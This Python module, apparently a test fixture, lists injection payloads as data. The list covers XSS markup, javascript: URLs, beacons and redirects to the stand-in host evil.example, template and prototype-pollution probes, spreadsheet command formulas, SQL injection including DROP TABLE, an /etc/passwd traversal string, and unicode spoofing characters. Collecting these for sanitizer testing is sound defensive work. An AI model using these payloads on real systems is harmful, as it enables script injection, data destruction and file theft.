"""Texts that try to be more than text."""

_MARKUP = """<script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<body onload=alert(1)>
<a href=javascript:alert(1)>x</a>
<details open ontoggle=alert(1)>
<input autofocus onfocus=alert(1)>
<video><source onerror=alert(1)>
<audio src=x onerror=alert(1)>
<object data=javascript:alert(1)>
<embed src=javascript:alert(1)>
<form action=javascript:alert(1)><button>x</button></form>
<math><mi xlink:href="data:x,<script>alert(1)</script>">
<link rel=stylesheet href=//evil.example/x.css>
<style>@import '//evil.example/x.css';</style>
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=//evil.example">
<meta http-equiv=Content-Security-Policy content="script-src *">
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</script><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<scr<script>ipt>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<img src="x` `<script>alert(1)</script>"` `>
<div style="background:url(//evil.example/x)">
<img src=//evil.example/x.png>
<img srcset="//evil.example/x.png 1x">
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">"""
_LINKS = """javascript:alert(1)
data:text/html,<script>alert(1)</script>
vbscript:msgbox(1)
//evil.example/
https://evil.example/?q=1
![x](https://evil.example/x.png)
[x](javascript:alert(1))
[x]: javascript:alert(1)
<https://evil.example>"""
_TEMPLATES = """{{constructor.constructor('alert(1)')()}}
${alert(1)}
#{7*7}
<%= 7*7 %>
{{7*7}}
__proto__
constructor
toString
hasOwnProperty
=cmd|'/c calc'!A1
+HYPERLINK("//evil.example")
@SUM(1+1)
-2+3+cmd|' /C calc'!A0
%00<script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#x3C;script&#x3E;alert(1)
\\u003cscript\\u003ealert(1)
' OR 1=1 --
'; DROP TABLE records; --
../../../../etc/passwd
null
[object Object]
req_00000000000000000000000000
verdict:block"""
_CHARACTERS = (
    "\u202etxt.exe",
    "\u2066\u2067hidden\u2069",
    "a\u200b\u200c\u200d\ufeffb",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b" * 20,
    "\U000e0041\U000e0042",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "W" * 400,
    "A --> B <!-- C -->",
)

PAYLOADS = (*_MARKUP.splitlines(), *_LINKS.splitlines(), *_TEMPLATES.splitlines(), *_CHARACTERS)
